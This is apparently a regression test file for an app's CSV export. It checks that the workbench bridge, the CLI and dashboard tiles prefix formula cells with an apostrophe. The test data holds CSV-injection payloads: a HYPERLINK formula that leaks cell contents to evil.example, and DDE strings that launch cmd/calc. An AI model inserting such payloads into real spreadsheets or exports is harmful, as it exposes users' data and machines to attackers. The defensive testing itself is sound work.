// Issue 21, broken 7 and build 4: CSV exports wrote formula cells verbatim. Replayed over the real
// bridge: a CSV with formula cells is imported, queried and exported as CSV; every text cell that
// starts with = + - @ TAB or CR comes out with a leading ', numbers come out as numbers. The CLI's
// `query --format csv` does the same by default and leaves cells raw only with --raw-csv; the
// dashboard tile CSV follows the same rule.
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { parseCli } from '../../main/cli/cliArgs';
import { printQuery } from '../../main/cli/cliQuery';
import { silentLogger } from '../../main/logging/logger';
import { openWarehouse } from '../../main/warehouse';
import { tileCsv } from '../../renderer/features/dashboards/tileCsv';
import { startSecurityHarness, type SecurityHarness } from './securityHarness';

let h: SecurityHarness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

/** RFC 4180 as DuckDB and Orchard write it: "" is a quote inside quotes; rows end with \n or \r\n. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  "-2+3+cmd|' /C calc'!A0",
  '\tTAB first',
];
const EVIL_CSV = `title,amount,note\n${ATTACKS.map((title, i) => `"${title.replace(/"/g, '""')}",${i % 2 === 0 ? -(i + 1) : i * 10},"${i === 0 ? '=1,2' : 'plain, ""quoted""'}"`).join('\n')}\n`;
/** Text cells typed in SQL too: a CR first, a name that is a formula, and "-5" as text next to -5 as a number. */
const EXPORT_SQL = `SELECT title, amount, note, chr(13) || 'cr' AS "=cr", '-5' AS neg_text, -5 AS neg FROM user.evil ORDER BY amount`;

function expectNeutralised(rows: string[][]) {
  const [header, ...data] = rows;
  expect(header).toEqual(['title', 'amount', 'note', "'=cr", 'neg_text', 'neg']);
  expect(data).toHaveLength(ATTACKS.length);
  for (const [title, amount, note, cr, negText, neg] of data) {
    expect(ATTACKS.map((a) => `'${a}`)).toContain(title);
    expect(amount).toMatch(/^-?\d+$/);
    expect(note === "'=1,2" || note === 'plain, "quoted"').toBe(true);
    expect(cr).toBe("'\rcr");
    expect(negText).toBe("'-5");
    expect(neg).toBe('-5');
  }
  // Numbers stay numbers: the negative amounts keep their minus and gain no quote.
  expect(data.map((r) => r[1]).filter((a) => a?.startsWith('-'))).toHaveLength(3);
}

async function importEvil(harness: SecurityHarness) {
  const bytes = Buffer.from(EVIL_CSV);
  const { uploadId } = await harness.call('imports:begin', { table: 'evil', format: 'csv', size: bytes.length });
  await harness.call('imports:chunk', { uploadId, offset: 0, data: bytes.toString('base64') });
  await harness.call('imports:finish', { uploadId, replace: false });
}

describe('CSV formula cells are neutralised', () => {
  it('in a workbench export over the bridge (DuckDB COPY, then the guard), downloaded as the browser gets it', { timeout: 60_000 }, async () => {
    h = await startSecurityHarness();
    await importEvil(h);
    const run = await h.call('query:run', { runId: crypto.randomUUID(), sql: EXPORT_SQL });
    const result = run.result ?? (await h.call('query:wait', { runId: run.runId }));
    const done = await h.call('query:export', { exportId: crypto.randomUUID(), resultId: result.resultId, format: 'csv', fileName: 'evil' });
    const download = await h.send({ path: done.download?.url ?? '' });
    expect(download.status).toBe(200);
    expectNeutralised(parseCsv(download.body));
  });

  it('in `orchard query --format csv`, and left raw only with --raw-csv', { timeout: 60_000 }, async () => {
    expect(parseCli(['query', '--format', 'csv', 'SELECT 1'])).toMatchObject({ format: 'csv' });
    expect(parseCli(['query', '--format', 'csv', '--raw-csv', 'SELECT 1'])).toMatchObject({ format: 'csv-raw' });
    expect(() => parseCli(['query', '--raw-csv', 'SELECT 1'])).toThrow(/--raw-csv goes with --format csv/);
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'orchard-csv-cli-'));
    const warehouse = await openWarehouse({ dataDir, logger: silentLogger });
    try {
      const print = async (format: 'csv' | 'csv-raw') => {
        const chunks: string[] = [];
        const out = new Writable({ write: (chunk: Buffer, _e, done) => (chunks.push(chunk.toString('utf8')), done()) });
        await printQuery(warehouse, `WITH evil AS (SELECT * FROM (VALUES ${ATTACKS.map((a, i) => `('${a.replace(/'/g, "''")}', ${-i - 1})`).join(', ')}) t(title, amount))
          SELECT title, amount, '-5' AS neg_text FROM evil ORDER BY amount`, format, out);
        return parseCsv(chunks.join(''));
      };
      const guarded = await print('csv');
      expect(guarded.slice(1).map((r) => r[0])).toEqual([...ATTACKS].reverse().map((a) => `'${a}`));
      expect(guarded.slice(1).map((r) => r[1])).toEqual(['-5', '-4', '-3', '-2', '-1']);
      expect(guarded.slice(1).every((r) => r[2] === "'-5")).toBe(true);
      const raw = await print('csv-raw');
      expect(raw.slice(1).map((r) => r[0])).toEqual([...ATTACKS].reverse());
    } finally {
      await warehouse.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('in a dashboard tile CSV, by the same rule (TAB and CR included)', () => {
    const rows = parseCsv(tileCsv(['title', 'downloads'], [...ATTACKS.map((a) => [a, -3]), ['\rcr', 4], ['plain', 5]]));
    expect(rows.slice(1).map((r) => r[0])).toEqual([...ATTACKS.map((a) => `'${a}`), "'\rcr", 'plain']);
    expect(rows.slice(1).map((r) => r[1])).toEqual([...ATTACKS.map(() => '-3'), '4', '5']);
  });
});
